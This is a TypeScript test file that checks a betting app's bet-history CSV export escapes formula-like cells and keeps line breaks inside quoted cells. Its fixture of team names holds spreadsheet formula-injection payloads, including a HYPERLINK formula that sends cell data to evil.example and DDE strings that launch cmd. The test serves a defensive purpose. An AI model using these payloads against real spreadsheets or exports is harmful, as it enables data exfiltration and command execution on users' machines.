/**
 * The bet history CSV opens in spreadsheets: a cell starting with = + - @ (or a tab or carriage
 * return) would run as a formula, so such a cell is written with a leading apostrophe, and a cell
 * holding a carriage return or a newline is quoted so the row stays one row. Team names come from
 * the feed, so they are not ours to trust.
 */
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../testing/csv-parse.ts';
import {
  type BettingTestApp,
  createNamedGame,
  fundedPlayer,
  place,
  setUpBettingTestApp,
  singleCoupon,
} from './test-support.ts';

let t: BettingTestApp;
setUpBettingTestApp((app) => {
  t = app;
});

/** Home and away names of one game each; every leg cell starts with its home name. */
const GAMES = [
  ['=HYPERLINK("https://evil.example/?"&A1,"Claim your bonus")', 'Line one\r\nline two'],
  ["+1+cmd|' /C calc'!A0", 'Away'],
  ['-2+3', 'Away'],
  ["@SUM(1+1)*cmd|' /C calc'!A0", 'Away'],
  ['\t=1+1', 'Away'],
  ['\r=1+1', 'Away'],
  ['Plain', 'Only\ra carriage return'],
] as const;

describe('bet history CSV', () => {
  it('neutralises formula cells and keeps carriage returns and newlines inside their cell', async () => {
    const p = await fundedPlayer(t, 1_000_000n);
    for (const [home, away] of GAMES) {
      const g = await createNamedGame(t, [2000, 3400, 3300], { home: { en: home }, away: { en: away } });
      const placed = (await place(p.client, singleCoupon(p.accountId, g.outcomeIds[0]!, 2, '1000'))).json();
      expect(placed.status).toBe('accepted');
    }
    const res = await p.client.get('/web-api/betting/v1/bets.csv?period=7&lng=en');
    expect(res.statusCode).toBe(200);
    const rows = parseCsv(res.body);
    const [header, ...bets] = rows;
    expect(bets).toHaveLength(GAMES.length);
    for (const row of bets) expect(row).toHaveLength(header!.length);
    const legs = header!.indexOf('legs');
    for (const row of bets) {
      for (const cell of row) {
        // A number (a stake, a price) may be negative; anything else must not start a formula.
        if (/^-?\d+(\.\d+)?$/.test(cell)) continue;
        expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    // Newest first; a formula-like name keeps its text behind the apostrophe.
    const shown = [...GAMES]
      .reverse()
      .map(([home, away]) => `${/^[=+\-@\t\r]/.test(home) ? "'" : ''}${home} — ${away}`);
    expect(bets.map((row) => row[legs]!.slice(0, row[legs]!.indexOf(': 1X2')))).toEqual(shown);
  });
});
